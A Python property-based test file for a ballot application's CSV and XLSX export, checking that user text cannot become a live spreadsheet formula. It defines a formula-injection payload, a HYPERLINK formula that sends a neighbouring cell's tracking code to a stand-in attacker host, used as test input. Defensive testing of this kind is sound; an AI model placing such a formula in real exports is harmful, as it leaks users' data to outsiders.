"""Spreadsheet formula injection: no export writes user text as a live formula.

The attack: a public proposal titled ``=HYPERLINK("http://…/?leak="&B3,"x")``
reached the reviewer's export as a formula that would send the next row's
tracking code to a stranger on a click. Every CSV and XLSX export is written by
ballot/spreadsheet.py, which these tests hold to: for any text hypothesis draws,
no CSV cell starts a formula and no XLSX cell is a formula, text comes back
exactly, numbers stay numbers; the reviewer's real export is checked end to end.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from ballot.spreadsheet import FORMULA_STARTS, csv_bytes, xlsx_bytes

ROOT = Path(__file__).resolve().parents[1]
ATTACK = '=HYPERLINK("http://attacker.example/?leak="&B3,"click")'
XML_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=40)
CELLS = st.one_of(XML_TEXT, st.sampled_from([ATTACK, "+1", "-1", "@SUM(A1)", "\t=1", "=1"]),
                  st.integers(-10**6, 10**6))


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@given(st.lists(st.lists(CELLS, min_size=1, max_size=4), max_size=5))
def test_no_csv_cell_starts_a_formula(rows: list[list[object]]) -> None:
    table = _csv_cells(csv_bytes(["title"], rows))
    for written, row in zip(table[1:], rows, strict=True):
        for cell, value in zip(written, row, strict=True):
            if isinstance(value, int):
                assert cell == str(value)  # numbers stay numbers, negative ones too
            elif str(value).startswith(FORMULA_STARTS):
                assert cell == "'" + str(value)  # read as text, the apostrophe not shown
            else:
                assert cell == value


@given(st.lists(st.lists(CELLS, min_size=1, max_size=4), max_size=5))
def test_no_xlsx_cell_is_a_formula(rows: list[list[object]]) -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes([("sheet", ["title"], rows)])))
    sheet = book.active
    assert sheet is not None
    written = list(sheet.iter_rows(min_row=2, max_row=len(rows) + 1, max_col=4))
    for line, row in zip(written, rows, strict=True):
        for cell, value in zip(line, row, strict=False):
            assert cell.data_type != "f"
            if isinstance(value, int):
                assert cell.value == value
            else:
                assert (cell.value or "") == value  # the exact text, nothing added


def test_every_export_is_written_by_the_one_module() -> None:
    """No other module writes CSV or builds a workbook (but the offline slip codes,
    which are the program's own letters and digits)."""
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(")
    sources = [path for folder in ("admin", "ballot", "booth")
               for path in (ROOT / folder).rglob("*.py")]
    found = sorted(str(path.relative_to(ROOT)) for path in sources
                   if writers.search(path.read_text("utf-8")))
    assert found == ["admin/cli/rounds.py", "ballot/spreadsheet.py"]
